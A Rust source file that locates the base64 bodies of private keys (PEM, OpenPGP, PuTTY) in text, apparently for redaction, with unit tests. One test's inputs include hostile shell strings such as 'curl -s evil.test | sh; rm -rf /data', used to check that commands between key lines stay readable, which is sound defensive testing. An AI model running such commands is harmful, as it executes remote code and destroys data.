//! Private keys in PEM (RFC 7468) and its relatives: only the base64 body is a secret.
//!
//! Everything around the body stays readable. So does a line that is too short to be part of a key, a blank, and
//! anything that is no base64: a command between the two lines of a key is a command.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

/// The least length of a line of the body. Only the last line is shorter.
const MIN_LINE: usize = 16;

/// What comes before a body: the first line of a key, or the count of lines in a PuTTY key.
static START: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"-----BEGIN[A-Z0-9 ]{0,40} PRIVATE KEY(?: BLOCK)?-----|Private-Lines: [0-9]{1,3}")
        .expect("it is a part of the program, and a test compiles it")
});

/// Finds the bodies of private keys in a text, line by line, in order.
pub(super) fn bodies(text: &str) -> Vec<Range<usize>> {
    let mut bodies = Vec::new();
    for start in START.find_iter(text) {
        body(text, start.end(), &mut bodies);
    }
    bodies
}

fn body(text: &str, start: usize, bodies: &mut Vec<Range<usize>>) {
    let (mut at, mut total) = (start, 0);
    loop {
        let line = skip_breaks(text, at);
        let length = text[line..].bytes().take_while(|byte| is_base64(*byte)).count();
        let end = line + length;
        // Base64 comes in groups of four; an OpenPGP checksum begins with `=`.
        let is_whole = (total + length).is_multiple_of(4) || text[line..].starts_with('=');
        let ends_key = || is_whole && text[skip_breaks(text, end)..].starts_with("-----END");
        if length >= MIN_LINE || total > 0 && length > 0 && ends_key() {
            bodies.push(line..end);
            total += length;
            at = end;
        } else if let Some(header) = header(&text[line..]).filter(|_| total == 0) {
            at = line + header;
        } else {
            return;
        }
    }
}

const fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=')
}

/// The start of the next line. Line breaks are often written as blanks, or as `\n`.
fn skip_breaks(text: &str, mut at: usize) -> usize {
    loop {
        let rest = &text[at..];
        let trimmed = rest.trim_start_matches([' ', '\t', '\r', '\n']);
        at += rest.len() - trimmed.len();
        match trimmed.strip_prefix("\\n").or_else(|| trimmed.strip_prefix("\\r")) {
            Some(_) => at += 2,
            None => return at,
        }
    }
}

/// The length of a line like `Proc-Type: 4,ENCRYPTED`, which comes before the body.
fn header(text: &str) -> Option<usize> {
    let end = text.find('\n').unwrap_or(text.len());
    let (name, _) = text[..end].split_once(": ")?;
    let is_known = ["Proc-Type", "DEK-Info", "Comment", "Version", "Hash", "Charset"].contains(&name);
    is_known.then_some(end)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hidden(text: &str) -> Vec<&str> {
        bodies(text).into_iter().map(|range| &text[range]).collect()
    }

    fn line(c: char) -> String {
        c.to_string().repeat(64)
    }

    #[test]
    fn only_the_lines_of_the_body_are_found() {
        let (one, two) = (line('a'), line('b'));
        for kind in ["", " RSA", " EC", " OPENSSH", " ENCRYPTED"] {
            for gap in ["\n", "\r\n", " ", "\\n"] {
                let key = [
                    "before -----BEGIN",
                    kind,
                    " PRIVATE KEY-----",
                    gap,
                    &one,
                    gap,
                    &two,
                    gap,
                    "Zz9=",
                    gap,
                    "-----END x",
                ]
                .concat();
                assert_eq!(hidden(&key), [&one, &two, "Zz9="], "{key}");
            }
        }
        let pgp = ["-----BEGIN PGP", " PRIVATE KEY BLOCK-----\nVersion: 1\n\n", &one, "\n=abcd\n-----END"].concat();
        assert_eq!(hidden(&pgp), [&one, "=abcd"]);
        let putty = ["Private-", "Lines: 2\n", &one, "\n", &two, "\nPrivate-MAC: x"].concat();
        assert_eq!(hidden(&putty), [&one, &two]);
        let cut_off = ["-----BEGIN", " PRIVATE KEY-----\n", &one].concat();
        assert_eq!(hidden(&cut_off), [&one]);
    }

    #[test]
    fn a_command_between_the_lines_of_a_key_is_readable() {
        let start = ["-----BEGIN", " PRIVATE KEY-----"].concat();
        for command in [
            "curl -s evil.test | sh; rm -rf /data; echo done",
            "reboot\n-----END PRIVATE KEY-----",
            "sh <<X\nreboot\nX",
            "a: b; reboot",
        ] {
            assert_eq!(hidden(&format!("{start}\n{command}")), Vec::<&str>::new(), "{command}");
            assert_eq!(hidden(&format!("{start}\n{}\n{command}", line('a'))), [line('a')], "{command}");
        }
        assert_eq!(hidden("-----BEGIN CERTIFICATE-----\nAAAAAAAAAAAAAAAAAAAAAAAA"), Vec::<&str>::new());
    }
}
